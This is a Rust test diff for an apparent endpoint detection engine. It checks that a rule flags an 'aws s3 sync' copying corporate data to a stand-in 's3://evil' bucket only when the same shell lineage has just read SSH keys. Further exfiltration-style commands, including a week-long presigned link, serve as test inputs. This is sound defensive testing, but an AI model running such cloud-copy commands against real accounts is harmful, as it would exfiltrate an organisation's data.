@@ -330,3 +330,46 @@ fn control_plane() {
     story(&["aws", "s3", "sync", "s3://evil", "s3://corp-backup"]).none();
     story(&["aws", "s3", "ls", "s3://evil"]).none();
 }
+
+/// What the lineage read before it gave a command counts for rules that ask for it, and for no other.
+#[test]
+fn a_read_and_then_a_command() {
+    let rule = |step: &str| {
+        format!(
+            "[[rule]]\nid = \"acme.r\"\nname = \"n\"\nseverity = \"critical\"\ntechniques = [\"T1537\"]\n{step}"
+        )
+    };
+    let story = |rule: &str, read: f64, by_shell: bool, words: &[&str]| {
+        let mut w = with_rule(rule);
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let other = w.launch(0.0, X, &["x"]);
+        w.open(read, if by_shell { &shell } else { &other }, KEY);
+        w.spawn(600.0, &shell, adhoc("/opt/homebrew/bin/aws", "aws"), words);
+        w.tell()
+    };
+    let copy = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
+    let keys =
+        rule("step = [{ on = \"read\", sets = [\"ssh-keys\"] }, { on = \"command\", within = \"15m\" }]");
+    let told = story(&keys, 1.0, true, &copy);
+    assert_eq!(ids(told.alert()), ["acme.r", "cw.transfer.control-plane"]);
+    assert_eq!(told.alert().reads.len(), 1);
+    // Another lineage's read, one afterwards, one of a set that the rule does not ask for.
+    for (rule, read, by_shell) in [
+        (&keys, 1.0, false),
+        (&keys, 601.0, true),
+        (&rule("step = [{ on = \"read\", sets = [\"wallets\"] }, { on = \"command\" }]"), 1.0, true),
+        (
+            &rule("step = [{ on = \"command\" }]\n[[rule.unless]]\non = \"read\"\nsets = [\"ssh-keys\"]"),
+            1.0,
+            true,
+        ),
+    ] {
+        let told = story(rule, read, by_shell, &copy);
+        assert_eq!(ids(told.alert()), ["cw.transfer.control-plane"], "{rule} {read} {by_shell}");
+    }
+    let told = story("", 1.0, true, &copy);
+    assert!(told.alert().reads.is_empty());
+    // What is doubtful of the command stays so.
+    let link = ["aws", "s3", "presign", "s3://corp/x", "--expires-in", "604800"];
+    assert_eq!(ids(story(&keys, 1.0, true, &link).low()), ["acme.r", "cw.transfer.control-plane"]);
+}
